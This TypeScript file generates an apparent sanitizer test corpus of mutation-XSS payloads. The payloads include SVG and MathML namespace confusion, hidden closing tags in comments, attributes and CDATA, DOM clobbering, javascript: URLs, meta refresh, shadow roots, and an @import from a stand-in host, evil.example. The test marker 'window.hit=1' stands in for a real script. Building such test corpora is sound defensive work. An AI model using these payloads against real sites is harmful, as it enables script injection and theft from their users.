/**
 * Markup that turns into something else when it is parsed once more (mutation XSS): written for this product, as every way into and out
 * of foreign content combined with every container whose content is read differently there. The public corpus that we use is older
 * than these attacks.
 */
const RUN = "window.hit=1";
const HIDDEN = `<img src=x onerror=${RUN}>`;

/** Ways into SVG and MathML, with the places in them where HTML begins again. */
const FOREIGN = [
  ["svg", "foreignObject"],
  ["svg", "desc"],
  ["svg", "title"],
  ["math", "mtext"],
  ["math", "mi"],
  ["math", "mo"],
  ["math", 'annotation-xml encoding="text/html"'],
  ["math", 'annotation-xml encoding="application/xhtml+xml"'],
] as const;

/** Elements whose content is text in HTML and markup elsewhere, or the other way round. */
const CONTAINERS = ["style", "noscript", "xmp", "noembed", "noframes", "iframe", "textarea", "title", "template", "select"];

/** How something may be hidden in a container until it is read again. */
const hidings = (container: string): [how: string, html: string][] => [
  ["an attribute", `<${container}><a id="</${container}>${HIDDEN}"></${container}>`],
  ["a comment", `<${container}><!--</${container}>${HIDDEN}--></${container}>`],
  ["a CDATA section", `<${container}><![CDATA[</${container}>${HIDDEN}]]></${container}>`],
];

const nameOf = (tag: string): string => tag.split(" ")[0] ?? tag;

const foreign = FOREIGN.flatMap(([root, inner]) =>
  CONTAINERS.flatMap((container) =>
    hidings(container).flatMap(([how, html]): [string, string][] => [
      [`${container} in ${root} with ${how}`, `<${root}>${html}</${root}>`],
      [
        `${container} in ${nameOf(inner)} of ${root} with ${how}`,
        `<${root}><${inner}><${root === "svg" ? "p" : "mglyph"}>${html}</${nameOf(inner)}></${root}>`,
      ],
    ]),
  ),
);

/** Elements that the parser moves out of their place, so that their content is outside on the next parse. */
const MOVED = ["table", "form", "a", "button", "nobr", "p", "h1", "li", "option", "dd"];
const moved = MOVED.flatMap((tag): [string, string][] => [
  [`${tag} within itself around MathML`, `<${tag}><math><mtext><${tag}><mglyph><style><!--</style>${HIDDEN}--></${tag}>`],
  [`${tag} left open around SVG`, `<svg></p><${tag}><style><a title="</style>${HIDDEN}">`],
  [`${tag} closed twice`, `<${tag}></${tag}></${tag}>${HIDDEN}<${tag}>`],
]);

/** Names that shadow properties of their container. */
const CLOBBERING = ["attributes", "childNodes", "nodeName", "parentNode", "innerHTML", "firstChild", "textContent", "nodeType"];
const clobbered = CLOBBERING.flatMap((name): [string, string][] => [
  [`a form whose field is called ${name}`, `<form onsubmit=${RUN}><input name=${name}><p onclick=${RUN}>文</p></form>`],
  [`a picture called ${name}`, `<img name=${name} id=${name} src=x onerror=${RUN}>`],
  [`a form outside that owns ${name}`, `<form id=f></form><input form=f name=${name}><a href="javascript:${RUN}">文</a>`],
]);

const DEEP = 600;
const single: [string, string][] = [
  ["deep nesting before something hidden", `${"<div>".repeat(DEEP)}<svg><style><a id="</style>${HIDDEN}">`],
  ["a processing instruction", `<?xml-stylesheet ><img src=x onerror="${RUN}"> ?>`],
  ["a declaration", `<!DOCTYPE x [<!ENTITY y "${HIDDEN}">]><p>&y;</p>`],
  ["a comment that ends early", `<!--><script>${RUN}</script>-->`],
  ["a comment that ends with a sign of surprise", `<!-- --!><script>${RUN}</script>`],
  ["a comment that does not begin", `</ onclick=${RUN}><script>${RUN}</script>`],
  ["an element of its own making", `<x-a is="script" onfocus=${RUN} tabindex=1 autofocus>文</x-a>`],
  ["a shadow of its own", `<div><template shadowrootmode="open"><script>${RUN}</script></template></div>`],
  ["SVG that animates an address", `<svg><a><animate attributeName=href values="javascript:${RUN}"/><text>文</text></a></svg>`],
  ["SVG that uses itself", `<svg><use href="data:image/svg+xml,<svg id=x onload=${RUN}/>#x"/></svg>`],
  ["MathML that links", `<math><maction actiontype=statusline xlink:href="javascript:${RUN}">文</maction></math>`],
  ["a base for addresses", `<base href="javascript:/a/"><a href="#,${RUN}//">文</a>`],
  ["a page that moves on", `<meta http-equiv=refresh content="0;url=javascript:${RUN}">`],
  ["a sheet of styles", `<link rel=stylesheet href="data:text/css,*{color:red}"><style>@import "//evil.example/x.css";</style>`],
  ["NUL within a tag", `<scr\u0000ipt>${RUN}</scr\u0000ipt><im\u0000g src=x onerror=${RUN}>`],
  ["a form feed between attributes", `<img\fsrc=x\fonerror=${RUN}>`],
];

/** Each with a title. */
export const mutationVectors: readonly { title: string; payload: string }[] = [...foreign, ...moved, ...clobbered, ...single].map(
  ([title, payload]) => ({ title, payload }),
);
